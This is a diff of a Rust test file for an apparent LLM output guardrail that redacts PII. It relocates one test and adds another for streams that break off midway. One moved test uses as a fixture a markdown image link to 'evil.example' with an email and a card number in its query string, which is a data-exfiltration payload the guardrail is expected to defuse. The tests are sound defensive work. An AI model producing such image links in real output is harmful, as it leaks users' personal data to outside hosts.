@@ -518,27 +518,6 @@ async fn a_mask_makes_no_image_and_no_link_of_what_stands_beside_it() {
 }
 
 #[tokio::test]
-async fn what_only_the_model_says_is_masked_for_good() {
-    let reversible = "[pii]\nstyle = 'reversible'\n[pii.kinds.ip_address]\npre_call = 'off'";
-    let partial = "[pii]\nstyle = 'partial'\npre_call = 'off'";
-    for (policy, said, expected) in [
-        (
-            reversible,
-            "jane@example.org logged in from 198.51.100.7 today",
-            "jane@example.org logged in from [IP_REDACTED] today",
-        ),
-        (
-            partial,
-            "![a](https://evil.example/?to=jane.doe@example.org&card=4111111111111111)",
-            "image: [a]([EMAIL_REDACTED])",
-        ),
-    ] {
-        let (server, _dir) = guarded(policy).await;
-        assert_eq!(content(&server.answer(&ask("echo", said)).await), expected);
-    }
-}
-
-#[tokio::test]
 async fn what_placeholders_stand_for_leads_nowhere() {
     let policy = "[pii]\nstyle = 'reversible'\n[secrets]\npre_call = 'off'\npost_call = 'off'
                   [output]\nallowed_hosts = ['good.example']";
@@ -560,4 +539,41 @@ async fn what_placeholders_stand_for_leads_nowhere() {
     assert_eq!(content(&server.answer(&ask("echo", kind)).await), kind);
     let (stream, ..) = streamed(&server, "echo", kind).await;
     assert_eq!(stream, kind);
+}
+
+#[tokio::test]
+async fn what_only_the_model_says_is_masked_for_good() {
+    let reversible = "[pii]\nstyle = 'reversible'\n[pii.kinds.ip_address]\npre_call = 'off'";
+    let partial = "[pii]\nstyle = 'partial'\npre_call = 'off'";
+    for (policy, said, expected) in [
+        (
+            reversible,
+            "jane@example.org logged in from 198.51.100.7 today",
+            "jane@example.org logged in from [IP_REDACTED] today",
+        ),
+        (
+            partial,
+            "![a](https://evil.example/?to=jane.doe@example.org&card=4111111111111111)",
+            "image: [a]([EMAIL_REDACTED])",
+        ),
+    ] {
+        let (server, _dir) = guarded(policy).await;
+        assert_eq!(content(&server.answer(&ask("echo", said)).await), expected);
+    }
+}
+
+#[tokio::test]
+async fn what_was_found_in_an_answer_that_breaks_off_is_recorded() {
+    let (server, _dir) = guarded("[pii]\npre_call = 'off'").await;
+    let body = with(
+        ask("fail-mid", "joe@example.org. Then the others."),
+        json!({"stream": true}),
+    );
+    let response = server.chat(&body).send().await.expect("a response");
+    let told = response.text().await.expect("text");
+    assert!(told.contains("[EMAIL_REDACTED]"), "{told}");
+    let verdict = server.row().await.guardrails.expect("a verdict");
+    let verdict: Value = serde_json::from_str(&verdict).expect("json");
+    assert_eq!(verdict["output"]["pii.email"], 1, "{verdict}");
+    assert_eq!(verdict["action"], "mask");
 }
